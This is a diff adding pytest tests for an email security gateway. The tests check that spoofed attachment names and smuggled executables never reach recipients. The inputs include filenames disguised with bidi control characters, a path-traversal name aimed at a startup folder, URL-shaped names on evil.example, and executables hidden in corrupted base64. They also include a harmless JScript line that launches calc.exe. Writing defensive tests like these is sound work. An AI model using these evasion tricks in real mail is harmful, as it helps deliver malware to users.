+def test_a_stuffed_dot_after_a_bare_lf_is_unstuffed(gw: GatewayProcess, raw_sink: RawSink) -> None:
+    """Postfix ends a line at a bare LF and unstuffs the dot that starts the
+    next one; the delivered text must read the same."""
+    mail = Mail("bare-lf-dot")
+    c = Raw(gw.smtp_port)
+    try:
+        for line in (b"EHLO client.example\r\n", f"MAIL FROM:<{mail.sender}>\r\n".encode(),
+                     f"RCPT TO:<{mail.rcpt}>\r\n".encode()):
+            assert c.cmd(line).startswith(b"250")
+        assert c.cmd(b"DATA\r\n").startswith(b"354")
+        reply = c.cmd(mail.build(mail.body()) + b"first line\n..hidden dot line\r\nlast line\r\n.\r\n")
+        assert reply.startswith(b"250"), reply
+    finally:
+        c.close()
+    [tx] = raw_sink.wait_for(mail.rcpt)
+    assert wire_problems(tx) == []
+    lines = tx.data.split(b"\r\n")
+    assert b".hidden dot line" in lines and b"..hidden dot line" not in lines, tx.data[-200:]
+
+
+# ------------------------------------------------------------ names
+
+
+BIDI_NAMES = ["invoice\u202efdp.exe", "photo\u2066gpj.exe\u2069", "r\u2067e\u2068p\u2069.exe"]
+
+
+@pytest.mark.parametrize("encoding", ["rfc2231", "8bit-header"])
+@pytest.mark.parametrize("name", BIDI_NAMES, ids=["rlo", "lri-pdi", "rli-fsi"])
+def test_bidi_controls_in_a_name_do_not_reach_the_agent(gw: GatewayProcess, raw_sink: RawSink, name: str,
+                                                        encoding: str) -> None:
+    mail = Mail(f"bidi-{encoding}-{len(name)}-{ord(name[7])}")
+    exe = pe(mail.tag)
+    big = b"%PDF-1.4\n" + pe(mail.tag + "pdf", 30_000)[2:]
+    pdf_name = name.replace(".exe", ".pdf")
+
+    def named(ctype: str, data: bytes, n: str) -> bytes:
+        if encoding == "rfc2231":
+            return part(ctype, data, raw_name=rfc2231(n))
+        return part(ctype, data, name=n)
+
+    root = multipart([mail.body(), mail.html(), named("application/octet-stream", exe, name),
+                      named("application/pdf", big, pdf_name)])
+    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))
+    [tx] = raw_sink.for_rcpt(mail.rcpt)
+    shown = readable_text(tx.data)
+    assert not BIDI.findall(shown), [hex(ord(c)) for c in BIDI.findall(shown)]
+
+
+def test_a_name_with_template_fields_is_not_expanded(gw: GatewayProcess, raw_sink: RawSink) -> None:
+    mail = Mail("template")
+    big = b"%PDF-1.4\n" + pe(mail.tag + "pdf", 30_000)[2:]
+    exe = pe(mail.tag)
+    root = multipart([mail.body(), part("application/pdf", big, name="x{size}{filename}y.pdf"),
+                      part("application/octet-stream", exe, name="p{size}{filename}q.exe")])
+    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))
+    [tx] = raw_sink.for_rcpt(mail.rcpt)
+    shown = readable_text(tx.data)
+    found = re.findall(r"x([^\r\n]*?)y\.pdf", shown) + re.findall(r"p([^\r\n]*?)q\.exe", shown)
+    assert found, shown
+    for between in found:
+        assert not re.search(r"\d", between) and "x" not in between and "p" not in between, found
+
+
+@pytest.mark.parametrize("name", ["http://evil.example/x.pdf", "https:\\\\evil.example\\x.pdf",
+                                  "www.evil.example.pdf"])
+def test_a_name_that_is_a_url_puts_no_link_in_the_body(gw: GatewayProcess, raw_sink: RawSink, name: str) -> None:
+    mail = Mail(f"urlname-{name[:5]}")
+    big = b"%PDF-1.4\n" + pe(mail.tag + "pdf", 30_000)[2:]
+    exe = pe(mail.tag)
+    root = multipart([mail.body(), mail.html(), part("application/pdf", big, raw_name=rfc2231(name)),
+                      part("application/octet-stream", exe, raw_name=rfc2231(name.replace(".pdf", ".exe")))])
+    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))
+    [tx] = raw_sink.for_rcpt(mail.rcpt)
+    shown = readable_text(tx.data)
+    assert not re.search(r"(?i)(https?:[/\\]{2}|www\.)evil\.example", shown), shown
+    assert not re.search(r'(?i)href="?[^">]*evil\.example', shown), shown
+
+
+# ------------------------------------------------------------ more shapes (beyond the issue's list)
+
+
+JSCRIPT = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');\r\n"
+
+
+@pytest.mark.parametrize("shape", ["rfc2231-name-disagrees", "content-type-name-disagrees",
+                                   "rfc2231-continuation", "dotdot-rfc2231", "two-dispositions", "trailing-dot",
+                                   "trailing-space"])
+def test_a_runnable_name_in_a_second_name_parameter_is_seen(gw: GatewayProcess, raw_sink: RawSink,
+                                                            shape: str) -> None:
+    """Python returns ``filename`` when ``filename*`` disagrees; a mail client
+    may show the other one.  A harmless name must not hide a runnable one."""
+    mail = Mail(f"names-{shape}")
+    blob = JSCRIPT + f"// {mail.tag}\r\n".encode()
+    if shape == "rfc2231-name-disagrees":
+        att = part("text/plain", blob, raw_name="filename=\"notes.txt\"; filename*=UTF-8''notes.js")
+    elif shape == "content-type-name-disagrees":
+        att = part('text/plain; name="notes.js"', blob, name="notes.txt")
+    elif shape == "rfc2231-continuation":
+        att = part("text/plain", blob, raw_name="filename*0=\"notes\"; filename*1=\".t\"; filename*2=\"xt.js\"")
+    elif shape == "dotdot-rfc2231":
+        att = part("text/plain", blob, raw_name="filename*=UTF-8''..%2F..%2F..%2Fstartup%2Fnotes.js")
+    elif shape == "two-dispositions":
+        # Python reads the first, a client may read the last.
+        att = part("text/plain", blob, name="notes.txt", extra=['Content-Disposition: attachment; filename="notes.js"'])
+    else:
+        # Windows drops a trailing dot or space: the file saved is notes.js.
+        att = part("text/plain", blob, name="notes.js." if shape == "trailing-dot" else "notes.js ")
+    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[blob],
+                                              markers=[b"ActiveXObject"]))
+
+
+@pytest.mark.parametrize("shape", ["inline-text-no-name", "inline-octet-no-name", "garbage-in-base64",
+                                   "uppercase-base64"])
+def test_an_executable_in_an_odd_shape_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
+    mail = Mail(f"odd-{shape}")
+    exe = pe(mail.tag)
+    if shape == "inline-text-no-name":
+        att = part("text/plain; charset=utf-8", exe, disposition="inline", extra=["Content-Disposition: inline"])
+    elif shape == "inline-octet-no-name":
+        att = part("application/octet-stream", exe, extra=["Content-Disposition: inline"])
+    elif shape == "garbage-in-base64":
+        # Characters outside the alphabet: lenient decoders skip them.
+        att = part("application/pdf", b"", name="invoice.pdf", cte="")
+        att = att.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
+                          b64(exe).replace(b"\r\n", b"*!\r\n"), 1)
+    else:
+        att = part("application/pdf", b"", name="invoice.pdf", cte="")
+        att = att.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: BASE64 \r\n\r\n" + b64(exe), 1)
+    case = mail.case(multipart([mail.body(), att]), files=[exe])
+    fail_closed(gw, raw_sink, mail, case)
